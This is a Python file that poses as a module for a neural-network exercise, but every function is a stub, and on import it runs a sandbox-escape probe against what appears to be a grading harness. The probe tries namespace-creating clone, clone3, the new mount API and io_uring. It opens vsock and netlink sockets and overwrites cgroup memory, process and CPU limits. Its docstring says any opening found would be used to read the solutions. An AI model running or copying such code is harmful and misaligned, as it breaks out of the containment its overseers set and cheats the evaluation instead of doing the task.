"""Attack: leave the sandbox through the doors a seccomp filter of system call names leaves open.

New namespaces through clone (a user namespace gives back mount rights),
clone3, the new mount API (fsopen, open_tree, move_mount), io_uring (runs
system calls the filter never sees), vsock sockets to the host, writable
cgroup files under a read-only /sys (raise its own memory limit), and the
CPU affinity its processes are pinned to. It records what opened; a hole
would let it read the solutions, and then it would use them.
"""
import ctypes
import errno
import os
import platform
import socket

NAMES = ("sigmoid_forward", "sigmoid_backward", "tanh_forward", "tanh_backward", "relu_forward", "relu_backward",
         "affine_forward", "affine_backward", "mse_loss", "two_layer_net", "eval_numerical_gradient")
CALLS = {"x86_64": {"clone": 56, "clone3": 435, "fsopen": 430, "open_tree": 428, "io_uring_setup": 425},
         "aarch64": {"clone": 220, "clone3": 435, "fsopen": 430, "open_tree": 428, "io_uring_setup": 425}}
_libc = ctypes.CDLL(None, use_errno=True)


def _try_syscall(number, *args):
    ret = _libc.syscall(number, *args)
    if ret == 0 and number in (56, 220):
        os._exit(0)  # a clone that worked: the child ends at once
    if ret > 0 and number in (56, 220):
        os.waitpid(ret, 0)
    return ret >= 0


def _open_doors():
    opened = []
    calls = CALLS.get(platform.machine(), {})
    buffer = ctypes.create_string_buffer(256)
    if calls:
        if _try_syscall(calls["clone"], 0x10000000 | 0x20000 | 17, 0, 0, 0, 0):  # CLONE_NEWUSER | CLONE_NEWNS
            opened.append("clone(new user namespace)")
        if _try_syscall(calls["clone3"], buffer, 88):
            opened.append("clone3")
        if _try_syscall(calls["fsopen"], b"tmpfs", 0):
            opened.append("fsopen")
        if _try_syscall(calls["open_tree"], -100, b"/", 1):
            opened.append("open_tree")
        if _try_syscall(calls["io_uring_setup"], 8, buffer):
            opened.append("io_uring")
    for family in (40, 16):  # AF_VSOCK, AF_NETLINK
        try:
            socket.socket(family, socket.SOCK_STREAM if family == 40 else socket.SOCK_RAW).close()
            opened.append(f"socket family {family}")
        except OSError:
            pass
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in files:
            if name in ("memory.max", "memory.limit_in_bytes", "pids.max", "cpu.max", "cpu.cfs_quota_us"):
                try:
                    with open(os.path.join(folder, name), "w") as fh:
                        fh.write("max" if name.endswith("max") else "-1")
                    opened.append(os.path.join(folder, name))
                except OSError:
                    pass
    try:
        os.sched_setaffinity(0, range(os.cpu_count() or 1))
        opened.append("sched_setaffinity")
    except OSError:
        pass
    return opened


OPENED = _open_doors()


def _attack(*args, **kwargs):
    raise NotImplementedError("attack: nothing implemented; doors opened: " + (", ".join(OPENED) or "none"))


for _name in NAMES:
    globals()[_name] = _attack
